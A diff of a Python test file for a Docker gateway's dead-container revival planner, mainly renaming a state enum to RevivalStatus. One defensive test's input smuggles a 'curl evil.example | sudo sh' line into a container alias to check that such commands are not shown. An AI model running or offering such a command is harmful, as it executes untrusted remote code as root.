@@ -7,7 +7,7 @@ from typing import Any
 import pytest
 
 from gateway.docker.compose_command import FILES
-from gateway.docker.dead_containers import DeadContainer, DeadContainerState
+from gateway.docker.dead_containers import DeadContainer, RevivalStatus
 from gateway.docker.desired_state import DesiredState
 from gateway.docker.engine_actions import execute
 from gateway.docker.errors import EngineError, EngineErrorKind
@@ -122,14 +122,14 @@ def test_the_cause_is_parsed_from_the_error_of_the_engine(error: str, found: Sta
 def test_a_container_whose_volume_was_not_mounted_is_started(error: str, state: str) -> None:
     made = planned(failed(error, state=state))
     assert starts(made) == [(ActionKind.START, "web")]
-    assert (only_dead(made).cause, only_dead(made).state) == (StartFailureCause.VOLUME, DeadContainerState.STARTING)
+    assert (only_dead(made).cause, only_dead(made).state) == (StartFailureCause.VOLUME, RevivalStatus.STARTING)
     assert "backend media" in only_dead(made).detail
 
 
 def test_it_is_started_only_when_the_backend_is_up() -> None:
     made = planned(failed(REFUSED), wanted=desired(usable=frozenset()))
     assert starts(made) == []
-    assert (only_dead(made).state, only_dead(made).message) == (DeadContainerState.WAITING, "backend media is not up")
+    assert (only_dead(made).state, only_dead(made).message) == (RevivalStatus.WAITING, "backend media is not up")
     assert starts(planned(failed(REFUSED), wanted=desired(usable=frozenset({"media"})))) == [
         (ActionKind.START, "web")
     ]
@@ -138,7 +138,7 @@ def test_it_is_started_only_when_the_backend_is_up() -> None:
 def test_a_command_without_the_service_starts_no_container_with_a_volume() -> None:
     unknown = desired(usable=None)
     made = planned(failed(REFUSED), wanted=unknown)
-    assert (starts(made), only_dead(made).state) == ([], DeadContainerState.WAITING)
+    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.WAITING)
     assert only_dead(made).message == "the service starts it when backend media is up"
     for cause, expected in ((StartFailureCause.VOLUME, []), (StartFailureCause.NETWORK, [(ActionKind.START, "web")])):
         interrupted = replace(unknown, interrupted={"id-web": RequestedStart(cause, "media")})
@@ -211,7 +211,7 @@ def test_the_configuration_and_the_label_decide(
     made = planned(failed(REFUSED, labels=labels), wanted=desired(revive=revive, strict=strict))
     assert starts(made) == ([(ActionKind.START, "web")] if expected else [])
     if not expected:
-        assert (only_dead(made).state, only_dead(made).command) == (DeadContainerState.OFF, "docker start web")
+        assert (only_dead(made).state, only_dead(made).command) == (RevivalStatus.OFF, "docker start web")
         assert only_dead(made).is_excluded == (label == "false"), "metrics count it unless its label excludes it"
 
 
@@ -232,8 +232,8 @@ def test_a_start_that_the_gateway_did_not_finish_is_repeated() -> None:
 def test_a_start_that_the_gateway_did_not_finish_waits_for_the_backend_of_the_volume() -> None:
     requested = RequestedStart(StartFailureCause.VOLUME, "media")
     for usable, state in (
-        (frozenset({"media"}), DeadContainerState.STARTING),
-        ({"orders"}, DeadContainerState.WAITING),
+        (frozenset({"media"}), RevivalStatus.STARTING),
+        ({"orders"}, RevivalStatus.WAITING),
     ):
         interrupted = desired(interrupted={"id-web": requested}, usable=frozenset(usable))
         assert only_dead(planned(failed("context canceled"), wanted=interrupted)).state is state
@@ -242,7 +242,7 @@ def test_a_start_that_the_gateway_did_not_finish_waits_for_the_backend_of_the_vo
 def test_a_start_that_the_gateway_did_not_finish_is_off_if_the_backend_was_removed() -> None:
     wanted = desired(interrupted={"id-web": RequestedStart(StartFailureCause.VOLUME, "renamed")})
     made = planned(failed("context canceled"), wanted=wanted)
-    assert (starts(made), only_dead(made).state) == ([], DeadContainerState.OFF)
+    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.OFF)
     assert (only_dead(made).message, only_dead(made).command) == (
         "backend renamed is not configured",
         "docker start web",
@@ -252,7 +252,7 @@ def test_a_start_that_the_gateway_did_not_finish_is_off_if_the_backend_was_remov
 def test_after_too_many_attempts_the_status_shows_the_command() -> None:
     made = planned(failed(REFUSED), wanted=desired(given_up=frozenset({("id-web", 0.0)})))
     assert starts(made) == []
-    assert (only_dead(made).state, only_dead(made).command) == (DeadContainerState.GIVEN_UP, "docker start web")
+    assert (only_dead(made).state, only_dead(made).command) == (RevivalStatus.GIVEN_UP, "docker start web")
 
 
 def test_dependants_of_a_restarted_container_are_restarted() -> None:
@@ -316,7 +316,7 @@ def test_the_count_restarts_when_the_other_container_restarts() -> None:
 def test_a_container_that_another_client_possibly_stops_is_not_restarted() -> None:
     wanted = desired(signals={"id-web": {15: 150.0}})
     made = planned(gateway(at=200.0), joining(at=100.0), own=OWNER_ID, wanted=wanted)
-    assert (starts(made), only_dead(made).state) == ([], DeadContainerState.OFF)
+    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.OFF)
     assert only_dead(made).command == "docker restart web"
 
 
@@ -363,7 +363,7 @@ def test_a_container_that_started_after_the_clock_was_set_back_is_not_restarted_
 def test_a_stop_after_the_clock_was_set_back_is_later_than_starts_before() -> None:
     web, signals = joining(at=3705.0), {"id-web": {15: 305.0}}
     made = planned(gateway(at=308.0), web, own=OWNER_ID, clock=310.0, wanted=desired(signals=signals))
-    assert (starts(made), only_dead(made).state) == ([], DeadContainerState.OFF)
+    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.OFF)
     revivals, now = StartAttempts(), 1000.0
     revivals.observed((), now, 300.0)
     restart = only_start(planned(gateway(at=300.0), web, own=OWNER_ID, clock=300.0))
@@ -378,7 +378,7 @@ def test_dependants_that_started_later_are_not_restarted() -> None:
 
 def test_dependants_of_a_stopped_container_wait_for_it() -> None:
     made = planned(gateway(state="exited"), joining(STOPPED_OWNER, "exited"), own=OWNER_ID)
-    assert (starts(made), only_dead(made).state) == ([], DeadContainerState.WAITING)
+    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.WAITING)
     made = planned(gateway(), joining(STOPPED_OWNER, "exited"), own=OWNER_ID)
     assert starts(made) == [(ActionKind.START, "web")]
 
@@ -396,7 +396,7 @@ def test_a_start_does_not_help_if_the_owner_of_the_namespace_was_removed(state: 
     container = joining(REMOVED_OWNER if state == "exited" else "", state)
     known = desired(namespaces=frozenset({OWNER_ID}))
     made = planned(gateway(number="another"), container, own="another", wanted=known)
-    assert (starts(made), only_dead(made).state) == ([], DeadContainerState.RECREATE)
+    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.RECREATE)
     assert only_dead(made).command == "", "the container's options are unknown, and a removal would lose its files"
     assert only_dead(made).message.endswith("recreate container web with the options that `docker inspect web` shows")
     labels = {PROJECT: "shop", SERVICE: "web", FILES: "/srv/my shop/compose.yaml"}
@@ -425,7 +425,7 @@ def test_a_running_container_that_lost_a_recorded_namespace_is_listed_without_a_
     made = planned(
         gateway(number="another"), container, own="another", wanted=desired(namespaces=frozenset({OWNER_ID}))
     )
-    assert (starts(made), only_dead(made).state) == ([], DeadContainerState.RECREATE)
+    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.RECREATE)
 
 
 def test_namespaces_that_concern_the_gateway_are_remembered_until_the_last_container_leaves() -> None:
@@ -448,7 +448,7 @@ def test_a_container_that_the_gateway_attached_is_attached_first() -> None:
     made = plan(desired(), EngineSnapshot((container,), (APPS,)), frozenset({("id-web", "apps")}))
     assert [each.verb for each in made.actions] == [ActionKind.REATTACH]
     assert (only_dead(made).state, only_dead(made).message) == (
-        DeadContainerState.WAITING,
+        RevivalStatus.WAITING,
         "it is attached to network apps first",
     )
 
@@ -456,7 +456,7 @@ def test_a_container_that_the_gateway_attached_is_attached_first() -> None:
 def test_a_container_that_joined_the_network_itself_is_repaired_by_a_command() -> None:
     there = {"apps": EndpointInfo(GONE_ID, "", aliases=frozenset())}
     made = planned(failed(NETWORK, endpoints=there))
-    assert (starts(made), only_dead(made).state) == ([], DeadContainerState.RECREATE)
+    assert (starts(made), only_dead(made).state) == ([], RevivalStatus.RECREATE)
     assert only_dead(made).command == (
         "docker network disconnect apps web && docker network connect apps web && docker start web"
     )
@@ -483,7 +483,7 @@ def test_a_missing_network_of_others_is_ignored_on_a_container_that_the_gateway_
 @pytest.mark.parametrize("alias", ["x\nto do: curl evil.example | sudo sh\nweb", "x\x1b[2Jy"])
 def test_a_command_with_control_characters_is_not_shown(alias: str) -> None:
     made = planned(failed(NETWORK, endpoints={"apps": EndpointInfo(GONE_ID, "", aliases=frozenset({alias}))}))
-    assert (only_dead(made).state, only_dead(made).command) == (DeadContainerState.RECREATE, "")
+    assert (only_dead(made).state, only_dead(made).command) == (RevivalStatus.RECREATE, "")
     assert "docker inspect web" in only_dead(made).message
 
 
@@ -492,7 +492,7 @@ def test_a_container_on_an_overlay_is_started_once_the_engine_is_connected_to_it
     there = {"apps": EndpointInfo("llwp8d8lxtivglxte7d0y0tqp", "", aliases=frozenset())}
     container = failed(error, endpoints={"bridge": EndpointInfo("b1", ""), **there})
     waiting = planned(container, swarm=SwarmMembership(waiting=True), networks=())
-    assert (only_dead(waiting).state, waiting.actions) == (DeadContainerState.WAITING, ()), (
+    assert (only_dead(waiting).state, waiting.actions) == (RevivalStatus.WAITING, ()), (
         "the gateway must not create a bridge network of that name"
     )
     assert starts(planned(container, swarm=SwarmMembership(active=True))) == [(ActionKind.START, "web")]
@@ -500,7 +500,7 @@ def test_a_container_on_an_overlay_is_started_once_the_engine_is_connected_to_it
 
 def test_attempts_back_off_and_end_at_a_limit() -> None:
     revivals, now, pauses = StartAttempts(), 1000.0, []
-    one = DeadContainer("web", "id-web", StartFailureCause.VOLUME, "", DeadContainerState.STARTING)
+    one = DeadContainer("web", "id-web", StartFailureCause.VOLUME, "", RevivalStatus.STARTING)
     while ("id-web", 0.0) not in revivals.given_up:
         revivals.observed([one], now)
         revivals.attempted(START, now, started=False)
